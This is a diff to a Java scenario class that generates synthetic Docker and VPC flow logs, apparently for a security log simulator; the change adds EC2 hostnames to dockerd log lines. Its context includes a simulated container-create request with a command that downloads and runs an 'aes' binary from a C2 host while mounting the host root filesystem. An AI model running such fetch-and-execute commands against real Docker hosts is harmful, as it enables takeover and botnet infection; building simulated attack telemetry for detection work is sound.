@@ -27,12 +27,12 @@ public final class AesDdosDocker implements Scenario {
     public void generate(Instant start, Random random, Consumer<LogLine> out) {
         String[] host = World.INSTANCES.get(0);
         Instant t = start.plusSeconds(2);
-        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, "debug", "Calling POST /v1.37/containers/create"), ID));
-        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, "debug",
+        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.37/containers/create"), ID));
+        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug",
                 "form data: {\"Cmd\":[\"/bin/sh\",\"-c\",\"cd /tmp; wget http://" + C2 + ":8080/AES -O aes; chmod +x aes; ./aes\"],"
                         + "\"Image\":\"alpine:3.18\",\"HostConfig\":{\"Binds\":[\"/:/host\"]}}"), ID));
         t = t.plusSeconds(1);
-        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, "debug", "Calling POST /v1.37/containers/9a8b7c6d5e4f/start"), ID));
+        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.37/containers/9a8b7c6d5e4f/start"), ID));
         for (int i = 0; i < 4; i++) {
             Instant f = t.plusSeconds(300 + 60L * i);
             out.accept(new LogLine(LogKind.VPC_FLOW, f, Formats.flow(World.ACCOUNT, host[2], host[1], "192.0.2.80",
